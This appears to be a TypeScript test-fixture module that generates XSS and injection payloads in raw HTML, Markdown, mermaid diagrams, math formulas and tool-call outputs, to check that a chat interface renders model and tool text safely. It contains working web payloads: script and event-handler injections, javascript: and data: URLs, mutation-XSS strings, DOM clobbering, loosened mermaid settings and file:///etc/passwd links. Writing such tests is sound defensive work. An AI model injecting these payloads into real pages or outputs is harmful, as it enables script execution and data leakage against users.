/** What text from a model or a tool may try. Each payload says by `ran` or by a request to `away` that it got through. */
import type { Part } from '@shared/chat/message';
import type { JsonValue } from '@shared/protocol/json';
import { toolCard } from '@shared/protocol/tool-cards';
import { z } from 'zod';

/** What a payload runs, if it runs. */
const RUN = 'window.ran=1';

/** An SVG that would run and load something. */
const svg = (away: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}">` +
  `<script>${RUN}</script><image href="${away}/svg-image.png"/><use xlink:href="${away}/use.svg#a"/>` +
  `<animate attributeName="x" onbegin="${RUN}"/><set attributeName="x" onbegin="${RUN}"/>` +
  `<foreignObject><iframe src="${away}/foreign.html"></iframe></foreignObject>` +
  `<a xlink:href="javascript:${RUN}"><text y="20">svg link</text></a></svg>`;

/** Raw HTML, by name. */
export function htmlPayloads(away: string): Readonly<Record<string, string>> {
  return {
    script: `<script>${RUN}</script><script src="${away}/script.js"></script>`,
    module: `<script type="module">import '${away}/module.js'</script>`,
    'img onerror': `<img src="x" onerror="${RUN}"><img src=x onerror=${RUN} title='`,
    'remote image': `<img src="${away}/html.png" srcset="${away}/set.png 2x">`,
    'picture and video': `<picture><source srcset="${away}/source.png"><img></picture><video src="${away}/video.mp4" poster="${away}/poster.png" autoplay onerror="${RUN}"></video><audio src="${away}/audio.mp3" autoplay></audio>`,
    svg: svg(away),
    iframe: `<iframe src="${away}/frame.html"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="javascript:parent.ran=1"></iframe>`,
    'object and embed': `<object data="${away}/object.html"></object><embed src="${away}/embed.html"><applet code="${away}/applet"></applet>`,
    style: `<style>@import '${away}/import.css'; body { background: url(${away}/background.png) } @font-face { font-family: f; src: url(${away}/font.woff2) }</style>`,
    'inline style': `<p style="position:fixed;inset:0;background:url(${away}/inline.png)">over everything</p>`,
    form: `<form action="${away}/form"><input name="q" autofocus onfocus="${RUN}"><button>Go on</button></form><button formaction="${away}/button">Go on</button>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
    base: `<base href="${away}/base/"><img src="relative.png">`,
    'link prefetch': `<link rel="prefetch" href="${away}/prefetch"><link rel="stylesheet" href="${away}/sheet.css"><link rel="modulepreload" href="${away}/preload.js"><link rel="icon" href="${away}/icon.png"><link rel="manifest" href="${away}/manifest.json">`,
    'event handlers': `<details open ontoggle="${RUN}"><summary>more</summary></details><marquee onstart="${RUN}">x</marquee><body onload="${RUN}"><input autofocus onfocus="${RUN}"><p onmouseover="${RUN}" onpointerenter="${RUN}">x</p>`,
    'links of every kind': `<a href="javascript:${RUN}">a</a> <a href="&#1;java&#10;script:${RUN}">b</a> <a href="data:text/html,<script>${RUN}</script>">c</a> <a href="file:///etc/passwd">d</a> <a href="vbscript:${RUN}">e</a> <a href="app://longhaul/rescue.html">f</a> <a href="longhaul://new?prompt=x">g</a> <a ping="${away}/ping" href="https://example.com/">h</a>`,
    'parsed twice': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg>`,
    clobbering: `<form id="longhaul"></form><img name="longhaul"><a id="root" href="cid:x"></a><a id="location" href="${away}/">x</a>`,
    'web view and template': `<webview src="${away}/webview.html"></webview><template><img src=x onerror="${RUN}"></template><math href="javascript:${RUN}">x</math>`,
  };
}

/** Markdown, by name: what only its own syntax makes, and all the raw HTML. */
export function markdownPayloads(away: string): Readonly<Record<string, string>> {
  const fence = '```';
  return {
    ...htmlPayloads(away),
    'javascript: in links': `[a](javascript:${RUN}) [b](java&#x73;cript:${RUN}) [c](JaVaScRiPt:${RUN}) [d]\n\n[d]: javascript:${RUN}\n\n<javascript:${RUN}>`,
    'data: in links and images': `[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:text/html,<script>${RUN}</script>) ![c](data:image/svg+xml,${encodeURIComponent(svg(away))})`,
    'file: in links and images':
      '[a](file:///etc/passwd) ![b](file:///etc/passwd) <file:///etc/passwd>',
    'images of elsewhere': `![a](${away}/markdown.png) ![b][r] [![c](${away}/inside.png)](${away}/outside)\n\n[r]: ${away}/reference.png`,
    'a title that leaves its attribute': `[a](https://example.com/ "x\\" onmouseover=\\"${RUN}") ![b](x "\\" onerror=\\"${RUN}")`,
    formulas: `$$\\href{javascript:${RUN}}{x}$$ $$\\url{javascript:${RUN}}$$ $$\\includegraphics[height=1em]{${away}/math.png}$$ $$\\htmlStyle{background:url(${away}/math-style.png)}{x}$$ $$\\htmlData{onclick=${RUN}}{x}$$ $$\\text{<img src=x onerror=${RUN}>}$$`,
    'a diagram with HTML and calls': `${fence}mermaid\nflowchart LR\n  A["<img src=x onerror=${RUN}><iframe src='${away}/mermaid.html'></iframe>"] --> B["${svg(away).replaceAll('"', "'")}"]\n  click A href "javascript:${RUN}"\n  click B call ran()\n${fence}`,
    'a diagram that asks for less care': `${fence}mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import url(${away}/theme.css); .node { background: url(${away}/theme.png) }", "fontFamily": "x; } * { background: url(${away}/font-family.png) } y {"}}%%\nflowchart LR\n  A["<img src='${away}/label.png' onerror=${RUN}>"] --> B\n  style A fill:url(${away}/fill.svg)\n${fence}`,
    'a language with a tail': `${fence}html"><img src=x onerror=${RUN}>\n<script>${RUN}</script>\n${fence}`,
  };
}

/** Texts that a tool may put wherever its answer has a text. */
function toolTexts(away: string): readonly string[] {
  return [
    Object.values(markdownPayloads(away)).join('\n\n'),
    `javascript:${RUN}`,
    `data:image/svg+xml,${encodeURIComponent(svg(away))}`,
    `data:text/html,<script>${RUN}</script>`,
    'file:///etc/passwd',
    `${away}/from-a-card.png`,
  ];
}

/** Tool calls with an answer of every type, each of whose texts is a payload; one list for each kind of text. */
export function toolPayloads(away: string): readonly (readonly Part[])[] {
  return toolTexts(away).map((text, kind) =>
    toolCard.options.map((option) => {
      const type = option.shape.type.value;
      const call = { toolName: type, toolCallId: `${type}-${kind}` };
      const output = filled(z.toJSONSchema(option, { io: 'input' }) as Shape, text);
      return { type: 'tool', state: 'output-available', ...call, output };
    }),
  );
}

/** Files that a tool hands over with a type that makes more of them, and parts that are neither text nor tool. */
export function otherPayloads(away: string): readonly Part[] {
  const markdown = Object.values(markdownPayloads(away)).join('\n\n');
  const file = (mime_type: string, content: string): Part => ({
    type: 'tool',
    state: 'output-available',
    toolName: 'read_workspace_file',
    toolCallId: `file-${mime_type}`,
    output: {
      ...{ type: 'workspace_file_content', message: 'A file', file_id: '1', name: 'f', path: '/f' },
      ...{ mime_type, size_bytes: 1, content_base64: Buffer.from(content).toString('base64') },
    },
  });
  const address = (url: string, mediaType: string): Part[] => [
    { type: 'file', url, mediaType },
    { type: 'source', url, title: null },
    { type: 'steering', id: url, texts: [url], files: [{ url, mediaType, filename: null }] },
  ];
  return [
    file('text/markdown', markdown),
    file('text/html', markdown),
    file('image/svg+xml', svg(away)),
    file(`image/svg+xml,${encodeURIComponent(svg(away))}`, ''),
    ...address(`javascript:${RUN}`, 'image/png'),
    ...address('file:///etc/passwd', 'image/png'),
    ...address(`${away}/part.png`, 'image/png'),
    ...address(`data:image/svg+xml,${encodeURIComponent(svg(away))}`, 'image/svg+xml'),
    ...address(`data:text/html,<script>${RUN}</script>`, 'image/png'),
    { type: 'reasoning', text: markdown, state: 'done' },
    { type: 'document', sourceId: '1', mediaType: 'text/html', title: markdown, filename: null },
    { type: 'data', name: markdown.slice(0, 200), dataId: null, data: markdown },
    { type: 'custom', kind: markdown },
    { type: 'corrupt', eventId: '1-1', reason: markdown },
    { type: 'raw', json: JSON.stringify(markdown) },
    { type: 'error', text: markdown, code: null },
  ];
}

/** As much of JSON Schema as the schemas of tool responses use. */
interface Shape {
  readonly type?: string | readonly string[];
  readonly const?: JsonValue;
  readonly enum?: readonly JsonValue[];
  readonly anyOf?: readonly Shape[];
  readonly properties?: Readonly<Record<string, Shape>>;
  readonly items?: Shape;
  readonly additionalProperties?: Shape | boolean;
}

/** A value of this shape with `text` wherever there may be a text, optional fields included. */
function filled(shape: Shape, text: string): JsonValue {
  if (shape.const !== undefined) return shape.const;
  if (shape.enum) return shape.enum[0] ?? null;
  if (shape.anyOf?.[0]) return filled(shape.anyOf[0], text);
  const [type] = [shape.type ?? []].flat();
  switch (type) {
    case 'object': {
      const { properties = {}, additionalProperties: more } = shape;
      const named = Object.entries(properties).map(([name, inner]) => [name, filled(inner, text)]);
      const others = typeof more === 'object' ? [[text.slice(0, 300), filled(more, text)]] : [];
      return Object.fromEntries([...named, ...others]);
    }
    case 'array':
      return shape.items ? [filled(shape.items, text)] : [];
    case 'number':
    case 'integer':
      return 1;
    case 'boolean':
      return true;
    default:
      return text;
  }
}
